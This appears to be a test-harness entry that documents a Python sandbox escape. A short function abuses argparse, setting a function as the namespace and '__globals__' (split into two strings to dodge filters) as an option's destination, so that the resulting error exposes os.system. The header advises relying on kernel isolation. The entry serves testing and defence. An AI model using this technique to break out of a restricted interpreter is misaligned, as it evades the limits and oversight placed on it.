# title: Let a command line parser read attributes
# tries: Gives argparse a function as its namespace and a private attribute as the destination of an option: it copies what is there, and the error that follows carries the copy.
# impact: Integrity
# proof: returned
# host: run
# allowed: policy off
# advice: Count on the kernel, not on rules about Python: with isolation around the process this gains nothing.


def attempt(host):
    import argparse
    import uuid

    parser = argparse.ArgumentParser()
    parser.add_argument("--any", dest="__glo" + "bals__", action="append")
    try:
        parser.parse_args(["--any", "1"], namespace=uuid.uuid4)
    except AttributeError as error:
        return f"{error.obj['os'].system} by a command line parser"
